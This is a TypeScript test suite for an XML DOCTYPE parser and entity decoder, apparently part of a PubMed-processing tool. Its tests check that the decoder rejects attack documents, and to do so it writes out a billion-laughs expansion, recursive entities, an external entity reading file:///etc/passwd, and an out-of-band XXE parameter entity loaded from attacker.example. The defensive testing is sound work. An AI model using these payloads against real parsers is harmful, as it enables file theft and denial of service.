import { describe, expect, it } from 'vitest'
import { thrownPubmatchError as thrown } from '../testing/thrown.ts'
import { decodeCharacterReference, parseDoctype } from './doctype.ts'
import { createEntityDecoder } from './entities.ts'
import { HTML_ENTITIES } from './html-entities.ts'

const doctype = (subset: string) => parseDoctype(`<!DOCTYPE r [${subset}]>`)

describe('HTML_ENTITIES', () => {
  it('holds the 253 names of XHTML 1.0 (lat1 96 + symbol 124 + special 33 with apos)', () => {
    expect(HTML_ENTITIES.size).toBe(253)
  })

  it('maps names to the code points of the XHTML entity files', () => {
    const codePoint = (name: string) => HTML_ENTITIES.get(name)?.codePointAt(0)
    expect(codePoint('nbsp')).toBe(0xa0)
    expect(codePoint('yuml')).toBe(0xff)
    expect(codePoint('Alpha')).toBe(0x391)
    expect(codePoint('Omega')).toBe(0x3a9)
    expect(codePoint('Sigma')).toBe(0x3a3)
    expect(codePoint('alpha')).toBe(0x3b1)
    expect(codePoint('sigmaf')).toBe(0x3c2)
    expect(codePoint('omega')).toBe(0x3c9)
    expect(codePoint('ndash')).toBe(0x2013)
    expect(codePoint('le')).toBe(0x2264)
    expect(codePoint('diams')).toBe(0x2666)
  })
})

describe('decodeCharacterReference', () => {
  it('decodes decimal and hexadecimal references, astral planes included', () => {
    expect(decodeCharacterReference('#233')).toBe('é')
    expect(decodeCharacterReference('#xE9')).toBe('é')
    expect(decodeCharacterReference('#x1D6FC')).toBe('𝛼')
  })

  it('refuses code points XML does not allow', () => {
    expect(decodeCharacterReference('#0')).toBeUndefined()
    expect(decodeCharacterReference('#x1')).toBeUndefined()
    expect(decodeCharacterReference('#xD800')).toBeUndefined()
    expect(decodeCharacterReference('#x110000')).toBeUndefined()
    expect(decodeCharacterReference('#9')).toBe('\t')
  })
})

describe('createEntityDecoder', () => {
  it('decodes predefined, numeric and HTML references and keeps unknown ones', () => {
    const decoder = createEntityDecoder(undefined)
    expect(
      decoder.decode(
        'a &amp; b &lt;c&gt; &quot;&apos; &#233;&#x3b1; &nbsp;&ndash;&alpha; &bogus; &#0; & x',
      ),
    ).toBe('a & b <c> "\' éα \u00a0–α &bogus; &#0; & x')
    expect(decoder.expanded).toBe(0)
  })

  it('expands internal entities, nested ones included, and counts what it expands', () => {
    const decoder = createEntityDecoder(
      doctype('<!ENTITY who "World"><!ENTITY hi "Hello, &who;&#33;">'),
    )
    expect(decoder.decode('&hi; &who;')).toBe('Hello, World! World')
    // "Hello, World!" is 13 characters and "World" 5.
    expect(decoder.expanded).toBe(18)
  })

  it('lets the predefined entities win over a redeclaration, and the first declaration win over later ones', () => {
    const decoder = createEntityDecoder(
      doctype('<!ENTITY amp "AMP"><!ENTITY e "first"><!ENTITY e "second">'),
    )
    expect(decoder.decode('&amp;&e;')).toBe('&first')
  })

  it('rejects a billion-laughs entity from its measured size, before expanding it', () => {
    const lol = ['<!ENTITY lol "lol">']
    for (let k = 1; k <= 9; k++) {
      lol.push(`<!ENTITY lol${k} "${`&lol${k === 1 ? '' : k - 1};`.repeat(10)}">`)
    }
    const decoder = createEntityDecoder(doctype(lol.join('')))
    const error = thrown(() => decoder.decode('&lol9;'))
    expect(error.code).toBe('ENTITY_EXPANSION_LIMIT')
    // 3 characters × 10^9 references: more than a JS string can hold, so it was never built.
    expect(error.details).toMatchObject({ entity: 'lol9', expandedLength: 3e9, limit: 1_000_000 })
    expect(decoder.expanded).toBe(0)
  })

  it('sums expansions across calls against one budget', () => {
    const decoder = createEntityDecoder(doctype(`<!ENTITY big "${'x'.repeat(400)}">`), {
      maxEntityExpansion: 1000,
    })
    expect(decoder.decode('&big;&big;')).toHaveLength(800)
    const error = thrown(() => decoder.decode('&big;'))
    expect(error.code).toBe('ENTITY_EXPANSION_LIMIT')
    expect(error.details).toMatchObject({ expandedLength: 400, alreadyExpanded: 800, limit: 1000 })
  })

  it('rejects chains nested deeper than the depth limit, however short', () => {
    const chain = ['<!ENTITY e0 "x">']
    for (let k = 1; k <= 20; k++) {
      chain.push(`<!ENTITY e${k} "&e${k - 1};">`)
    }
    const decoder = createEntityDecoder(doctype(chain.join('')), { maxEntityDepth: 16 })
    expect(decoder.decode('&e15;')).toBe('x') // 16 levels: e15 → … → e0
    const error = thrown(() => decoder.decode('&e20;'))
    expect(error.code).toBe('ENTITY_EXPANSION_LIMIT')
    expect(error.details).toMatchObject({ entity: 'e20', limit: 16 })
  })

  it('rejects recursive entities', () => {
    const decoder = createEntityDecoder(doctype('<!ENTITY a "1&b;"><!ENTITY b "2&a;">'))
    const error = thrown(() => decoder.decode('&a;'))
    expect(error.code).toBe('ENTITY_EXPANSION_LIMIT')
    expect(error.details).toMatchObject({ recursive: true })
  })

  it('rejects a used external entity, directly or through an internal one, and ignores an unused one', () => {
    const decoder = createEntityDecoder(
      doctype(
        '<!ENTITY ext SYSTEM "file:///etc/passwd"><!ENTITY wrap "[&ext;]"><!ENTITY ok "fine">',
      ),
      { file: 'x.xml' },
    )
    expect(decoder.decode('&ok;')).toBe('fine')
    const direct = thrown(() => decoder.decode('&ext;'))
    expect(direct.code).toBe('EXTERNAL_ENTITY')
    expect(direct.details).toMatchObject({
      file: 'x.xml',
      entity: 'ext',
      systemId: 'file:///etc/passwd',
    })
    expect(direct.message).toMatchInlineSnapshot(
      `"x.xml: the document uses the external entity &ext; declared as file:///etc/passwd; pubmatch never fetches external entities"`,
    )
    expect(thrown(() => decoder.decode('&wrap;')).code).toBe('EXTERNAL_ENTITY')
  })
})

describe('parseDoctype', () => {
  it('records the external DTD of a PubMed file and declares nothing', () => {
    const result = parseDoctype(
      '<!DOCTYPE PubmedArticleSet PUBLIC "-//NLM//DTD PubMedArticle, 1st January 2019//EN" "https://dtd.nlm.nih.gov/ncbi/pubmed/out/pubmed_190101.dtd">',
    )
    expect(result).toMatchObject({
      name: 'PubmedArticleSet',
      publicId: '-//NLM//DTD PubMedArticle, 1st January 2019//EN',
      systemId: 'https://dtd.nlm.nih.gov/ncbi/pubmed/out/pubmed_190101.dtd',
    })
    expect(result.entities.size).toBe(0)
  })

  it('reads entity declarations and skips comments, PIs and other declarations in the internal subset', () => {
    const result = parseDoctype(`<!DOCTYPE r SYSTEM "r.dtd" [
      <!-- a comment with "quotes" and > -->
      <?pi data?>
      <!ELEMENT r (#PCDATA)>
      <!ATTLIST r a CDATA "x>y">
      <!ENTITY copy2 "&#169; 2024 &who;">
      <!ENTITY pub PUBLIC "-//X//EN" "http://example.org/x.ent">
      <!ENTITY pic SYSTEM "pic.gif" NDATA gif>
      <!ENTITY % pe "<!ENTITY inner 'x'>">
    ]>`)
    expect(result.systemId).toBe('r.dtd')
    expect(result.entities.get('copy2')).toEqual({
      kind: 'internal',
      name: 'copy2',
      parts: [{ text: '© 2024 ' }, { ref: 'who' }],
    })
    expect(result.entities.get('pub')).toEqual({
      kind: 'external',
      name: 'pub',
      publicId: '-//X//EN',
      systemId: 'http://example.org/x.ent',
    })
    expect(result.entities.get('pic')).toMatchObject({ kind: 'external', systemId: 'pic.gif' })
    expect(result.parameterEntities.get('pe')?.kind).toBe('internal')
    expect(result.entities.has('inner')).toBe(false)
  })

  it('rejects a reference to an external parameter entity (the out-of-band XXE pattern)', () => {
    const error = thrown(() =>
      parseDoctype(
        '<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>',
        { file: 'evil.xml' },
      ),
    )
    expect(error.code).toBe('EXTERNAL_ENTITY')
    expect(error.details).toMatchObject({
      file: 'evil.xml',
      entity: 'remote',
      systemId: 'http://attacker.example/evil.dtd',
    })
  })

  it('reports an unreadable declaration as MALFORMED_XML', () => {
    expect(thrown(() => parseDoctype('<!DOCTYPE r [<!ENTITY broken>]>')).code).toBe('MALFORMED_XML')
    expect(thrown(() => parseDoctype('<!DOCTYPE r [<!ENTITY a "x">')).code).toBe('MALFORMED_XML')
  })
})
